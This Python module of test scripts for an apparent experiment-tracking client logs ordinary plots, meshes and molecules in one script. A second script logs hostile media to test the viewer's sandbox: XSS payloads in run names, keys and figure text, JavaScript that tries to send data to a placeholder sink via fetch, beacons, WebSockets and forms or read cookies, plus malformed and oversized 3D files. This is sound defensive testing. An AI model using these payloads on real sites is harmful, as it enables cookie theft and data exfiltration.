"""Scripts that log figures, molecules, meshes and graphs with the client, good and bad ones."""

from __future__ import annotations

SHAPES = '''
import json, struct

def glb(points, *, faces=None, count=None, image=None):
    """A GLB with these triangles; `count` lies about how many points it has."""
    body = b"".join(struct.pack("<3f", *point) for point in points)
    accessor = {"bufferView": 0, "componentType": 5126, "count": count or len(points),
        "type": "VEC3", "min": [-1, -1, -1], "max": [1, 1, 1]}
    views = [{"buffer": 0, "byteOffset": 0, "byteLength": len(body)}]
    scene = {"asset": {"version": "2.0"}, "scene": 0, "scenes": [{"nodes": [0]}],
        "nodes": [{"mesh": 0}], "accessors": [accessor], "bufferViews": views,
        "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}]}
    if count:
        del accessor["bufferView"]
    if image:
        scene["images"] = [image]
        scene["textures"] = [{"source": 0}]
        material = {"pbrMetallicRoughness": {"baseColorTexture": {"index": 0}}}
        scene["materials"] = [material]
        scene["meshes"][0]["primitives"][0]["material"] = 0
    scene["buffers"] = [{"byteLength": len(body)}]
    text = json.dumps(scene).encode()
    text += b" " * (-len(text) % 4)
    parts = struct.pack("<II", len(text), 0x4E4F534A) + text
    parts += struct.pack("<II", len(body), 0x004E4942) + body
    return b"glTF" + struct.pack("<II", 2, 12 + len(parts)) + parts

CORNERS = [(-1, -1, -1), (1, -1, 1), (0, 1, 0), (1, -1, 1), (1, -1, -1), (0, 1, 0)]
OBJ = "v -1 -1 0\\nv 1 -1 0\\nv 0 1 0\\nv 0 0 1\\nf 1 2 3\\nf 1 2 4\\nf 2 3 4\\n"
STL = "solid a\\nfacet normal 0 0 1\\nouter loop\\nvertex 0 0 0\\nvertex 1 0 0\\nvertex 0 1 0\\n"
STL += "endloop\\nendfacet\\nendsolid a\\n"
PDB = "\\n".join(
    f"HETATM{n:5d}  {name:<3} MOL A   1    {x:8.3f}{y:8.3f}{z:8.3f}  1.00  0.00          {name:>2}"
    for n, (name, x, y, z) in enumerate(
        [("C", 0, 0, 0), ("O", 1.2, 0, 0), ("N", -0.7, 1.2, 0), ("H", -0.7, -1, 0.2)], 1))
'''

GOOD = (
    SHAPES
    + """
import io
import labstead, plotly.graph_objects as go
from bokeh.plotting import figure

run = labstead.init(project=PROJECT, id="good", name="bright-heron")
LINK = {"source": [0], "target": [1], "value": [3]}
plot = figure(width=300, height=200, title="Bokeh", sizing_mode="stretch_width")
plot.line([1, 2, 3, 4], [4, 2, 5, 3], line_width=2)
graph = labstead.Graph()
for name, size in [("input", 0), ("left", 110), ("right", 220), ("<b>sum</b>", 0), ("out", 11)]:
    graph.add_node(id=name, name=name, class_name="Dense" if size else "Add", num_parameters=size)
for ends in ["input left", "input right", "left <b>sum</b>", "right <b>sum</b>", "<b>sum</b> out"]:
    graph.add_edge(*ends.split())
run.log({
    "plotly/line": go.Figure(go.Scatter(y=[1, 3, 2]), {"title": {"text": "Line"}}),
    "plotly/box": go.Figure([go.Box(y=[1, 2, 3, 9]), go.Violin(y=[2, 3, 4, 5])]),
    "plotly/flow": go.Figure(go.Sankey(node={"label": ["a", "b"]}, link=LINK)),
    "plotly/map": go.Figure(go.Scattergeo(lat=[50], lon=[10])),
    "space/surface": go.Figure(go.Surface(z=[[1, 2, 3], [2, 4, 2], [3, 2, 1]])),
    "space/glb": labstead.Object3D(io.BytesIO(glb(CORNERS)), file_type="glb"),
    "space/obj": labstead.Object3D(io.StringIO(OBJ), file_type="obj", caption="a tent"),
    "space/stl": labstead.Object3D(io.StringIO(STL), file_type="stl"),
    "space/molecule": labstead.Molecule(io.StringIO(PDB), file_type="pdb", caption="formamide"),
    "bokeh": labstead.Bokeh(plot),
    "graph": graph,
})
run.summary["best/figure"] = labstead.Image([[0, 255], [255, 0]], caption="only in the summary")
run.finish()
"""
)

BAD = (
    SHAPES
    + '''
import io, pathlib
import labstead

run = labstead.init(project=PROJECT, id="bad", name="<img src=x onerror=hacked()>")

def page(script):
    return labstead.Html(f"<p id=told>alive</p><script>{script}</script>", inject=False)

TRIES = """
const tries = [
  () => fetch('SINK/fetch'), () => navigator.sendBeacon('SINK/beacon'),
  () => { new Image().src = 'SINK/image' }, () => new WebSocket('SINK/ws'.replace('http', 'ws')),
  () => { top.location = 'SINK/top' }, () => { parent.location = 'SINK/parent' },
  () => window.open('SINK/window'), () => parent.hacked(), () => document.cookie,
  () => localStorage.length, () => fetch('/api/v1/teams'), () => import('SINK/module.js'),
  () => new Worker('SINK/worker.js'), () => { const f = document.createElement('form');
    f.action = 'SINK/form'; document.body.append(f); f.submit() },
  () => document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=SINK/style>' +
    '<link rel=prefetch href=SINK/prefetch><link rel=preconnect href=SINK>')];
for (const one of tries) try { Promise.resolve(one()).catch(() => 0) } catch {}
""".replace("SINK", SINK)

def kept(name, content):
    path = pathlib.Path(name)
    path.write_text(content)
    return str(path)

NOTE = "<a href='javascript:parent.hacked()'>x</a><img src=x onerror=parent.hacked()>"
plotly = {"data": [{"y": [1, 2], "text": NOTE, "name": NOTE}], "config": {"plotlyServerURL": SINK},
    "layout": {"title": {"text": NOTE}, "images": [{"source": SINK + "/p.png", "x": 0, "y": 1,
        "sizex": 1, "sizey": 1}]}}
ready = {"type": "object", "name": "CustomJS", "id": "p2", "attributes": {"code": TRIES}}
bokeh = {"version": "3.9.2", "title": "x", "roots": [{"type": "object", "name": "Div", "id": "p1",
    "attributes": {"text": "<b>drawn</b><img src=x onerror=parent.hacked()>"}}],
    "callbacks": {"type": "map", "entries": [["document_ready", [ready]]]}}
remote = {"uri": SINK + "/texture.png"}
run.log({
    "html/tries": page(TRIES),
    "html/leaves": page(f"location = '{SINK}/self'"),
    "html/refreshes": labstead.Html(f"<meta http-equiv=refresh content='0;url={SINK}/refresh'>"),
    "<script>hacked()</script>": labstead.Plotly(kept("a.json", json.dumps(plotly))),
    "figures/bokeh": labstead.Bokeh(kept("b.json", json.dumps(bokeh))),
    "figures/no plotly": labstead.Plotly(kept("c.json", "[1, 2]")),
    "figures/no bokeh": labstead.Bokeh(kept("d.json", '{"roots": []}')),
    "space/lies": labstead.Object3D(io.BytesIO(glb(CORNERS, count=2_000_000_000)), file_type="glb"),
    "space/remote": labstead.Object3D(io.BytesIO(glb(CORNERS, image=remote)), file_type="glb"),
    "space/cut": labstead.Object3D(io.BytesIO(glb(CORNERS)[:90]), file_type="glb"),
    "space/nothing": labstead.Object3D(io.StringIO("<svg onload=hacked()>"), file_type="obj"),
    "space/large": labstead.Object3D(io.BytesIO(bytes(60_000_001)), file_type="stl"),
    "space/no molecule": labstead.Molecule(io.StringIO("<script>"), file_type="pdb"),
})
run.finish()
'''
)
